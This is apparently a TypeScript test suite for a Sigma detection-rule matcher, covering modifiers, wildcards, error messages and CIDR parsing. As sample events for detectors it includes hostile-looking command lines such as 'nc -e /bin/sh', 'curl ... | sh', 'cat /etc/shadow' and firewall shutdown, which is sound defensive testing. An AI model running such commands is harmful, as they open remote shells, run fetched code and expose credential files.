import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { formatCidr, networkContains, parseCidr, parseIp } from './cidr.ts';
import { event } from './rule-test.fixture.ts';
import { compileDetection, FieldRegistry, MatchContext, requiredEventTypes } from './sigma-detection.ts';
import { compileSelection, parseSigmaString, stringTest } from './sigma-modifiers.ts';

type Matcher = (data: Record<string, unknown>, type?: string) => boolean;

/** A matcher for one search identifier, as a rule with `condition: sel` would run it. */
function matcher(selection: unknown): Matcher {
  const compiled = compileSelection(selection);
  if (!compiled.ok) assert.fail(`expected a valid selection: ${JSON.stringify(compiled.problems)}`);
  const registry = new FieldRegistry();
  const predicate = compileDetection(
    {
      logsource: {},
      sources: null,
      selections: { sel: compiled.selection },
      condition: { op: 'ref', name: 'sel' },
    },
    registry,
  );
  const context = new MatchContext(registry);
  return (data, type = 'host.executable_started') => {
    context.reset(event(type, data));
    return predicate(context);
  };
}

function refused(selection: unknown): string {
  const compiled = compileSelection(selection);
  if (compiled.ok) assert.fail(`expected ${JSON.stringify(selection)} to be refused`);
  return compiled.problems.map((problem) => problem.message).join('\n');
}

describe('Sigma values', () => {
  it('compares text case-insensitively unless `cased`', () => {
    const plain = matcher({ Image: '/USR/bin/NC' });
    assert.equal(plain({ Image: '/usr/bin/nc' }), true);
    assert.equal(plain({ Image: '/usr/bin/ncat' }), false);
    const cased = matcher({ 'Image|cased': '/usr/bin/NC' });
    assert.equal(cased({ Image: '/usr/bin/nc' }), false);
    assert.equal(cased({ Image: '/usr/bin/NC' }), true);
  });

  it('reads * as any run of characters and ? as exactly one', () => {
    const match = matcher({ Image: '*/bin/n?' });
    assert.equal(match({ Image: '/usr/bin/nc' }), true);
    assert.equal(match({ Image: '/usr/bin/n' }), false);
    assert.equal(match({ Image: '/usr/bin/ncat' }), false);
    const inner = matcher({ CommandLine: 'curl*|*sh' });
    assert.equal(inner({ CommandLine: 'curl -s http://x | sh' }), true);
    assert.equal(inner({ CommandLine: 'wget http://x | sh' }), false);
  });

  it('escapes wildcards with a backslash, keeps other backslashes, and reads \\\\* as a backslash and a wildcard', () => {
    const star = matcher({ CommandLine: 'echo \\*' });
    assert.equal(star({ CommandLine: 'echo *' }), true);
    assert.equal(star({ CommandLine: 'echo x' }), false);
    // `\W` is a plain backslash; before a wildcard the backslash itself must be escaped.
    const path = matcher({ Image: 'C:\\Windows\\\\*' });
    assert.equal(path({ Image: 'C:\\Windows\\cmd.exe' }), true);
    assert.equal(matcher({ Image: 'C:\\Windows\\*' })({ Image: 'C:\\Windows\\cmd.exe' }), false);
    const backslashWildcard = matcher({ Image: 'dir\\\\*' });
    assert.equal(backslashWildcard({ Image: 'dir\\anything' }), true);
    assert.equal(backslashWildcard({ Image: 'dir/anything' }), false);
  });

  it('matches a list when any value matches, and with `all` only when every value does', () => {
    const any = matcher({ 'CommandLine|contains': ['passwd', 'shadow'] });
    assert.equal(any({ CommandLine: 'cat /etc/shadow' }), true);
    assert.equal(any({ CommandLine: 'cat /etc/hosts' }), false);
    const all = matcher({ 'CommandLine|contains|all': ['iptables', 'stop'] });
    assert.equal(all({ CommandLine: 'service iptables stop' }), true);
    assert.equal(all({ CommandLine: 'service iptables start' }), false);
  });

  it('ands the fields of a mapping and ors the mappings of a list', () => {
    const mapping = matcher({ 'Image|endswith': '/cp', 'CommandLine|contains': '/tmp/' });
    assert.equal(mapping({ Image: '/bin/cp', CommandLine: 'cp /tmp/x /etc/passwd' }), true);
    assert.equal(mapping({ Image: '/bin/mv', CommandLine: 'mv /tmp/x /etc/passwd' }), false);
    const list = matcher([{ Image: '/bin/cp' }, { CommandLine: 'reboot' }]);
    assert.equal(list({ CommandLine: 'reboot' }), true);
    assert.equal(list({ Image: '/bin/mv' }), false);
  });

  it('applies contains, startswith and endswith', () => {
    assert.equal(matcher({ 'CommandLine|contains': ' -e ' })({ CommandLine: 'nc -e /bin/sh' }), true);
    assert.equal(matcher({ 'CommandLine|startswith': 'nc ' })({ CommandLine: 'nc -e /bin/sh' }), true);
    assert.equal(matcher({ 'CommandLine|startswith': 'sh' })({ CommandLine: 'nc -e /bin/sh' }), false);
    assert.equal(matcher({ 'Image|endswith': '/nc' })({ Image: '/usr/bin/nc' }), true);
    assert.equal(matcher({ 'Image|endswith': '/nc' })({ Image: '/usr/bin/nc.old' }), false);
  });

  it('matches null when the field is absent or null, and empty text only when it is empty', () => {
    const missing = matcher({ CommandLine: null });
    assert.equal(missing({}), true);
    assert.equal(missing({ CommandLine: null }), true);
    assert.equal(missing({ CommandLine: '' }), false);
    assert.equal(missing({ CommandLine: 'ls' }), false);
    const empty = matcher({ CommandLine: '' });
    assert.equal(empty({ CommandLine: '' }), true);
    assert.equal(empty({}), false);
  });

  it('compares numbers and booleans with their text', () => {
    const port = matcher({ DestinationPort: 22 });
    assert.equal(port({ DestinationPort: 22 }), true);
    assert.equal(port({ DestinationPort: '22' }), true);
    assert.equal(port({ DestinationPort: 222 }), false);
    const deleted = matcher({ deleted: true });
    assert.equal(deleted({ deleted: true }), true);
    assert.equal(deleted({ deleted: 'True' }), true);
    assert.equal(deleted({ deleted: false }), false);
  });

  it('matches any element of a list-valued field', () => {
    const match = matcher({ 'paths|endswith': '/ssh' });
    assert.equal(match({ paths: ['/etc', '/etc/ssh'] }), true);
    assert.equal(match({ paths: ['/etc', '/var'] }), false);
  });
});

describe('Sigma modifiers', () => {
  it('re: case-sensitive by default, with i, m and s flags and a leading (?i)', () => {
    assert.equal(matcher({ 'CommandLine|re': '\\s-O\\s' })({ CommandLine: 'wget -O /tmp/x' }), true);
    assert.equal(matcher({ 'CommandLine|re': '\\s-O\\s' })({ CommandLine: 'wget -o /tmp/x' }), false);
    assert.equal(matcher({ 'CommandLine|re|i': '\\s-O\\s' })({ CommandLine: 'wget -o /tmp/x' }), true);
    assert.equal(matcher({ 'CommandLine|re': '(?i)\\s-O\\s' })({ CommandLine: 'wget -o /tmp/x' }), true);
    assert.equal(matcher({ 'line|re': '^root$' })({ line: 'x\nroot' }), false);
    assert.equal(matcher({ 'line|re|m': '^root$' })({ line: 'x\nroot' }), true);
    assert.equal(matcher({ 'line|re': 'a.b' })({ line: 'a\nb' }), false);
    assert.equal(matcher({ 'line|re|s': 'a.b' })({ line: 'a\nb' }), true);
    assert.equal(matcher({ 'line|re': '\\Aroot' })({ line: 'root x' }), true);
    assert.equal(matcher({ 'line|re': '\\Aroot' })({ line: 'x root' }), false);
  });

  it('cidr: IPv4, IPv6, and IPv4-mapped IPv6 addresses in IPv4 networks', () => {
    const private10 = matcher({ 'SourceIp|cidr': ['10.0.0.0/8', '2001:db8::/32'] });
    assert.equal(private10({ SourceIp: '10.1.2.3' }), true);
    assert.equal(private10({ SourceIp: '11.1.2.3' }), false);
    assert.equal(private10({ SourceIp: '::ffff:10.9.8.7' }), true);
    assert.equal(private10({ SourceIp: '2001:db8:1::5' }), true);
    assert.equal(private10({ SourceIp: '2001:db9::5' }), false);
    assert.equal(private10({ SourceIp: 'not an address' }), false);
    assert.equal(matcher({ 'SourceIp|cidr': '192.168.1.128/25' })({ SourceIp: '192.168.1.127' }), false);
    assert.equal(matcher({ 'SourceIp|cidr': '192.168.1.128/25' })({ SourceIp: '192.168.1.200' }), true);
  });

  it('windash: a dash at the start of a word also matches a slash, en dash, em dash or horizontal bar', () => {
    const match = matcher({ 'CommandLine|windash|contains': ' -e ' });
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      assert.equal(match({ CommandLine: `nc ${dash}e /bin/sh` }), true, dash);
    }
    assert.equal(match({ CommandLine: 'nc +e /bin/sh' }), false);
    // A dash inside a word is not a flag.
    const inner = matcher({ 'CommandLine|windash': 'a-b' });
    assert.equal(inner({ CommandLine: 'a/b' }), false);
  });

  it('base64: matches the encoded value, case-sensitively', () => {
    const match = matcher({ 'CommandLine|base64|contains': 'whoami' });
    assert.equal(match({ CommandLine: 'echo d2hvYW1p | base64 -d | sh' }), true);
    assert.equal(match({ CommandLine: 'echo D2HVYW1P | base64 -d | sh' }), false);
  });

  it('base64offset: finds the value at any position inside a base64 string (property)', () => {
    const match = matcher({ 'CommandLine|base64offset|contains': 'http://' });
    fc.assert(
      fc.property(fc.string({ maxLength: 12 }), fc.string({ maxLength: 12 }), (before, after) => {
        const encoded = Buffer.from(`${before}http://${after}`).toString('base64');
        assert.equal(match({ CommandLine: `echo ${encoded}` }), true);
      }),
    );
    assert.equal(match({ CommandLine: `echo ${Buffer.from('ftp://x').toString('base64')}` }), false);
  });

  it('utf16le, utf16be, utf16 and wide encode before base64', () => {
    const wide = matcher({ 'CommandLine|wide|base64offset|contains': 'ping' });
    const encoded = Buffer.from('cmd /c ping x', 'utf16le').toString('base64');
    assert.equal(wide({ CommandLine: encoded }), true);
    const be = matcher({ 'CommandLine|utf16be|base64': 'ab' });
    assert.equal(be({ CommandLine: Buffer.from([0, 0x61, 0, 0x62]).toString('base64') }), true);
    const bom = matcher({ 'CommandLine|utf16|base64': 'ab' });
    assert.equal(bom({ CommandLine: Buffer.from([0xff, 0xfe, 0x61, 0, 0x62, 0]).toString('base64') }), true);
  });

  it('exists: the field is present (even empty or null) or absent', () => {
    assert.equal(matcher({ 'command|exists': true })({ command: '' }), true);
    assert.equal(matcher({ 'command|exists': true })({ command: null }), true);
    assert.equal(matcher({ 'command|exists': true })({}), false);
    assert.equal(matcher({ 'command|exists': false })({}), true);
  });

  it('gt, gte, lt, lte compare numbers and numeric text; anything else never matches', () => {
    assert.equal(matcher({ 'port|gt': 1024 })({ port: 1025 }), true);
    assert.equal(matcher({ 'port|gt': 1024 })({ port: 1024 }), false);
    assert.equal(matcher({ 'port|gte': 1024 })({ port: '1024' }), true);
    assert.equal(matcher({ 'port|lt': 1024 })({ port: 22 }), true);
    assert.equal(matcher({ 'port|lte': 1024 })({ port: 1025 }), false);
    assert.equal(matcher({ 'port|lt': 1024 })({ port: 'ssh' }), false);
    assert.equal(matcher({ 'port|lt': 1024 })({}), false);
  });

  it('neq: a present field equal to none of the values', () => {
    const match = matcher({ 'User|neq': ['root', 'admin'] });
    assert.equal(match({ User: 'bob' }), true);
    assert.equal(match({ User: 'ROOT' }), false);
    assert.equal(match({}), false);
  });

  it('fieldref: compares with another field of the same event', () => {
    const same = matcher({ 'TargetUser|fieldref': 'User' });
    assert.equal(same({ TargetUser: 'Bob', User: 'bob' }), true);
    assert.equal(same({ TargetUser: 'root', User: 'bob' }), false);
    assert.equal(same({ TargetUser: 'root' }), false);
    const contains = matcher({ 'CommandLine|fieldref|contains': 'User' });
    assert.equal(contains({ CommandLine: 'passwd bob', User: 'bob' }), true);
    const cased = matcher({ 'TargetUser|fieldref|cased': 'User' });
    assert.equal(cased({ TargetUser: 'Bob', User: 'bob' }), false);
  });

  it('minute, hour, day, week, month, year take a UTC part of a time, alone or compared', () => {
    const night = Date.UTC(2024, 2, 10, 3, 15);
    assert.equal(matcher({ 'when|hour': 3 })({ when: night }), true);
    assert.equal(matcher({ 'when|hour|gte': 22 })({ when: night }), false);
    assert.equal(matcher({ 'when|minute': 15 })({ when: '2024-03-10T03:15:00Z' }), true);
    assert.equal(matcher({ 'when|day': 10 })({ when: night }), true);
    assert.equal(matcher({ 'when|month': 3 })({ when: night }), true);
    assert.equal(matcher({ 'when|year': 2024 })({ when: night }), true);
    assert.equal(matcher({ 'when|week': 10 })({ when: night }), true);
  });

  it('keywords search the raw line and every text field; `|all` needs each keyword somewhere', () => {
    const keywords = matcher(['Corrupted MAC on input', 'bad client public DH value']);
    assert.equal(keywords({ line: 'sshd[12]: error: Corrupted MAC on input.' }, 'auth.login_failed'), true);
    assert.equal(keywords({ message: 'BAD CLIENT PUBLIC DH VALUE' }, 'syslog.message'), true);
    assert.equal(keywords({ message: 'Accepted publickey' }, 'syslog.message'), false);
    const all = matcher({ '|all': ['pkexec', 'XAUTHORITY'] });
    assert.equal(all({ line: 'pkexec: XAUTHORITY contains suspicious content' }), true);
    assert.equal(all({ program: 'pkexec', line: 'XAUTHORITY contains suspicious content' }), true);
    assert.equal(all({ line: 'pkexec started' }), false);
  });
});

describe('modifier errors', () => {
  it('refuses unknown modifiers, placeholders and impossible combinations', () => {
    assert.match(refused({ 'Image|endwith': 'x' }), /unknown modifier `endwith`/);
    assert.match(refused({ 'Image|expand': '%admins%' }), /placeholders/);
    assert.match(refused({ 'Image|contains|all': 'x' }), /at least two values/);
    assert.match(refused({ 'Image|exists': 'yes' }), /true or false/);
    assert.match(refused({ 'SourceIp|cidr|cased': '10.0.0.0/8' }), /`cased` does not apply to `cidr`/);
    assert.match(refused({ 'Image|i': 'x' }), /flag of `re`/);
    assert.match(refused({ 'Image|wide': 'x' }), /base64/);
    assert.match(refused({ 'Image|base64': 'x*' }), /cannot encode wildcards/);
    assert.match(refused({ 'Image|re': '(unclosed' }), /not a regular expression/);
    assert.match(refused({ 'SourceIp|cidr': '10.0.0.0/33' }), /not a network/);
    assert.match(refused({ 'port|gt': 'many' }), /compares numbers/);
    assert.match(refused({ 'Image|startswith|endswith': 'x' }), /exclude each other/);
    assert.match(refused({ 'Image|re|cased': 'x' }), /case-sensitive already/);
  });

  it('refuses structures that are not Sigma', () => {
    assert.match(refused({ Image: { nested: 'x' } }), /nested mapping/);
    assert.match(refused({ Image: [['x']] }), /nested list/);
    assert.match(refused(['keyword', { Image: 'x' }]), /not both/);
    assert.match(refused('selection'), /mapping of fields/);
    assert.match(refused([]), /empty list/);
    assert.match(refused({}), /empty mapping/);
  });
});

describe('wildcard matching', () => {
  /** A plain recursive matcher to check the compiled tests against. */
  function reference(pattern: string, text: string): boolean {
    if (pattern === '') return text === '';
    const [head, ...rest] = pattern;
    const tail = rest.join('');
    if (head === '\uE000')
      return [...Array(text.length + 1).keys()].some((skip) => reference(tail, text.slice(skip)));
    if (text === '') return false;
    return (head === '\uE001' || head === text[0]) && reference(tail, text.slice(1));
  }

  it('compiles every pattern to a test that agrees with a plain matcher (property)', () => {
    const alphabet = fc.constantFrom('a', 'b', '.', '\uE000', '\uE001');
    fc.assert(
      fc.property(
        fc.array(alphabet, { maxLength: 8 }),
        fc.array(fc.constantFrom('a', 'b', '.'), { maxLength: 8 }),
        (pattern, text) => {
          const test = stringTest(pattern.join(''), true);
          const input = text.join('');
          let actual: boolean;
          switch (test.op) {
            case 'eq':
              actual = input === test.value;
              break;
            case 'prefix':
              actual = input.startsWith(test.value);
              break;
            case 'suffix':
              actual = input.endsWith(test.value);
              break;
            case 'contains':
              actual = input.includes(test.value);
              break;
            case 'glob':
              actual = new RegExp(test.pattern).test(input);
              break;
            default:
              assert.fail(`unexpected test ${test.op}`);
          }
          assert.equal(actual, reference(pattern.join(''), input));
          // The compiled matcher agrees too, for a field and for a keyword search over two texts.
          const sigma = pattern
            .map((char) => (char === '\uE000' ? '*' : char === '\uE001' ? '?' : char))
            .join('');
          assert.equal(matcher({ 'f|cased': sigma })({ f: input }), actual);
          const second = text.slice().reverse().join('');
          const wrapped = `\uE000${pattern.join('')}\uE000`;
          assert.equal(
            matcher({ '|cased': [sigma] })({ line: input, other: second }),
            reference(wrapped, input) || reference(wrapped, second),
          );
        },
      ),
    );
  });

  it('matches any escaped literal exactly (property)', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 16 }), fc.string({ maxLength: 16 }), (literal, other) => {
        const escaped = literal.replace(/[\\*?]/g, '\\$&');
        assert.equal(parseSigmaString(escaped), literal);
        const match = matcher({ 'f|cased': escaped });
        assert.equal(match({ f: literal }), true);
        assert.equal(match({ f: other }), other === literal);
      }),
    );
  });
});

describe('networks', () => {
  it('normalises networks and keeps IPv4 in its own notation', () => {
    assert.equal(formatCidr(parseCidr('10.1.2.3/8') as never), '10.0.0.0/8');
    assert.equal(formatCidr(parseCidr('2001:db8::1/32') as never), '2001:db8::/32');
    assert.equal(parseCidr('1.2.3/8'), undefined);
    assert.equal(parseCidr('::1::2/8'), undefined);
  });

  it('contains exactly the addresses that share the prefix (property)', () => {
    fc.assert(
      fc.property(fc.ipV4(), fc.ipV4(), fc.integer({ min: 0, max: 32 }), (network, address, prefix) => {
        const toNumber = (ip: string) => ip.split('.').reduce((total, part) => total * 256 + Number(part), 0);
        const mask = prefix === 0 ? 0 : 2 ** 32 - 2 ** (32 - prefix);
        const expected = (toNumber(network) & mask) >>> 0 === (toNumber(address) & mask) >>> 0;
        const parsed = parseCidr(`${network}/${prefix}`);
        const bytes = parseIp(address);
        assert.ok(parsed !== undefined && bytes !== undefined);
        assert.equal(networkContains(parsed, bytes), expected);
      }),
    );
  });

  it('parses every IPv6 address fast-check writes', () => {
    fc.assert(
      fc.property(fc.ipV6(), (address) => {
        assert.notEqual(parseIp(address), undefined, address);
      }),
    );
  });
});

describe('requiredEventTypes', () => {
  it('finds the event types a condition requires, and none when it does not say', () => {
    const detection = (selections: Record<string, unknown>, condition: string) => {
      const compiled = Object.fromEntries(
        Object.entries(selections).map(([name, value]) => {
          const result = compileSelection(value);
          if (!result.ok) assert.fail('invalid selection');
          return [name, result.selection];
        }),
      );
      const names = Object.keys(compiled);
      const node =
        condition === 'a and not b'
          ? ({
              op: 'and',
              args: [
                { op: 'ref', name: 'a' },
                { op: 'not', arg: { op: 'ref', name: 'b' } },
              ],
            } as const)
          : condition === 'a or b'
            ? ({
                op: 'or',
                args: [
                  { op: 'ref', name: 'a' },
                  { op: 'ref', name: 'b' },
                ],
              } as const)
            : ({ op: 'ref', name: names[0] ?? '' } as const);
      return requiredEventTypes({ logsource: {}, sources: null, selections: compiled, condition: node });
    };
    assert.deepEqual(
      [...(detection({ a: { type: ['fim.created', 'fim.deleted'] } }, 'a') ?? [])],
      ['fim.created', 'fim.deleted'],
    );
    assert.deepEqual(
      [...(detection({ a: { type: 'x.y' }, b: { User: 'root' } }, 'a and not b') ?? [])],
      ['x.y'],
    );
    assert.equal(detection({ a: { type: 'x.y' }, b: { User: 'root' } }, 'a or b'), null);
    assert.equal(detection({ a: { 'type|contains': 'fim' } }, 'a'), null);
  });
});
